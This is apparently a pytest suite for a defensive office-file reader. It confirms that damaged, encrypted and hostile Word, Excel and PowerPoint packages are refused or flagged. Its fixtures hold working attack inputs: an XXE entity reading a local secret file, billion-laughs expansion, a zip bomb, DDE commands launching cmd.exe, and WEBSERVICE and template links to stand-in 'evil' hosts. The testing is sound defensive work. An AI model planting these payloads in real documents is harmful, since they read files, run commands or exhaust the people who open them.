"""Hostile and broken files: a clear error or a safe read, nothing run, nothing fetched."""

import zipfile
from pathlib import Path

import docx
import openpyxl
import pptx
import pytest

from apps.office.package import PackageLimits, find_kind, open_package
from apps.office.safe_xml import OfficeError

CORE = '<?xml version="1.0"?>'


def make_docx(path: Path) -> Path:
    document = docx.Document()
    document.add_paragraph("Words")
    document.save(str(path))
    return path


def rewrite(path: Path, changes: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in {**parts, **changes}.items():
            file.writestr(name, data)
    return path


def test_kinds_are_found_by_content(tmp_path: Path) -> None:
    make_docx(tmp_path / "a.xlsx")
    openpyxl.Workbook().save(tmp_path / "b.docx")
    pptx.Presentation().save(str(tmp_path / "c"))
    (tmp_path / "d.docx").write_bytes(b"%PDF-1.7\n")
    assert [find_kind(tmp_path / name) for name in ("a.xlsx", "b.docx", "c", "d.docx")] == [
        "docx",
        "xlsx",
        "pptx",
        "pdf",
    ]


def test_saved_package_is_the_same(tmp_path: Path) -> None:
    package = open_package(make_docx(tmp_path / "a.docx"))
    package.save(tmp_path / "b.docx")
    assert open_package(tmp_path / "b.docx").parts == package.parts
    assert docx.Document(str(tmp_path / "b.docx")).paragraphs[0].text == "Words"


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "is empty"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "encrypted with a password"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "old binary format"),
        (b"<html><body>not found</body></html>", "HTML or XML"),
        (b"PK\x03\x04garbage", "is damaged"),
        (b"hello", "none of these"),
    ],
)
def test_what_is_no_office_file_is_named(tmp_path: Path, data: bytes, said: str) -> None:
    path = tmp_path / "x.docx"
    path.write_bytes(data)
    with pytest.raises(OfficeError, match=said):
        open_package(path)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(OfficeError, match="cannot be read"):
        open_package(tmp_path / "nothing.docx")


@pytest.mark.parametrize("cut", [0.2, 0.5, 0.9, 0.99])
def test_cut_files_are_damaged(tmp_path: Path, cut: float) -> None:
    path = make_docx(tmp_path / "a.docx")
    data = path.read_bytes()
    path.write_bytes(data[: int(len(data) * cut)])
    with pytest.raises(OfficeError, match="damaged"):
        open_package(path)


def test_flipped_bytes_never_crash(tmp_path: Path) -> None:
    path = make_docx(tmp_path / "a.docx")
    data, read = path.read_bytes(), 0
    for at in range(30, len(data), len(data) // 60):
        path.write_bytes(data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :])
        try:
            open_package(path)
            read += 1
        except OfficeError:
            pass
    assert read < 60


def test_zip_bomb(tmp_path: Path) -> None:
    path = rewrite(make_docx(tmp_path / "a.docx"), {"word/media/image1.bin": bytes(40_000_000)})
    with pytest.raises(OfficeError, match="zip bomb"):
        open_package(path)
    rewrite(path, {f"word/media/{n}.bin": bytes(3_000_000) for n in range(3)} | {"word/media/image1.bin": b""})
    with pytest.raises(OfficeError, match="zip bomb"):
        open_package(path, PackageLimits(unpacked_bytes=5_000_000))


def test_too_many_or_large_files(tmp_path: Path) -> None:
    path = make_docx(tmp_path / "a.docx")
    with pytest.raises(OfficeError, match="parts, more than 3"):
        open_package(path, PackageLimits(num_parts=3))
    with pytest.raises(OfficeError, match="Save a smaller one"):
        open_package(path, PackageLimits(file_bytes=1000))


def test_a_part_twice(tmp_path: Path) -> None:
    path = make_docx(tmp_path / "a.docx")
    with pytest.warns(UserWarning), zipfile.ZipFile(path, "a") as file:
        file.writestr("word/document.xml", "<other/>")
    with pytest.raises(OfficeError, match="twice"):
        open_package(path)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(tmp_path: Path, encoding: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    xml = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]><d>&x;</d>'
    data = xml.encode(encoding)
    path = rewrite(make_docx(tmp_path / "a.docx"), {"word/document.xml": data})
    with pytest.raises(OfficeError, match="document type"):
        open_package(path)


def test_billion_laughs(tmp_path: Path) -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    xml = f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><d>&l9;</d>'.encode()
    path = rewrite(make_docx(tmp_path / "a.docx"), {"word/styles.xml": xml})
    with pytest.raises(OfficeError, match="document type"):
        open_package(path)


def test_hidden_things_are_told(tmp_path: Path) -> None:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId90" Type="http://x/attachedTemplate" Target="http://evil/t" TargetMode="External"/>'
        '<Relationship Id="rId91" Type="http://x/hyperlink" Target="https://good.example" TargetMode="External"/>'
        '<Relationship Id="rId92" Type="http://x/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>'
        "</Relationships>"
    )
    field = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
        '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
        "</w:body></w:document>"
    )
    changes = {
        "word/_rels/document.xml.rels": relations.encode(),
        "word/document.xml": field.encode(),
        "word/vbaProject.bin": b"macro",
        "word/embeddings/oleObject1.bin": b"ole",
    }
    package = open_package(rewrite(make_docx(tmp_path / "a.docx"), changes))
    assert sorted(one.code for one in package.notices) == ["dde", "embedded", "external", "macro", "script"]


def test_formulas_that_act_are_told(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["A2"], sheet["A3"] = "=cmd|'/c calc'!A0", '=WEBSERVICE("http://evil.example")', "=SUM(B1:B2)"
    workbook.save(tmp_path / "a.xlsx")
    assert [one.code for one in open_package(tmp_path / "a.xlsx").notices] == ["dde", "external"]


@pytest.mark.slow
def test_a_sheet_of_many_megabytes_is_searched_without_a_tree(tmp_path: Path) -> None:
    from apps.office.check.check import check_file

    row = '<row r="{0}"><c r="A{0}"><v>1.5</v></c><c r="B{0}" t="e"><v>#N/A</v></c></row>'
    rows = "".join(row.format(n) for n in range(1, 700_001))
    acts = '<row r="700001"><c r="A700001"><f>WEBSERVICE("http://evil")</f></c></row>'
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = f"<worksheet {space}><sheetData>{rows}{acts}</sheetData></worksheet>".encode()
    assert len(sheet) > 48 * 2**20
    openpyxl.Workbook().save(tmp_path / "a.xlsx")
    report = check_file(rewrite(tmp_path / "a.xlsx", {"xl/worksheets/sheet1.xml": sheet}))
    codes = [one.code for one in report.findings]
    assert "too-large" in codes and "external" in codes and codes.count("formula-error") > 50
    entity = sheet.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY y "z">]><worksheet', 1)
    with pytest.raises(OfficeError, match="document type"):
        open_package(rewrite(tmp_path / "a.xlsx", {"xl/worksheets/sheet1.xml": entity}))
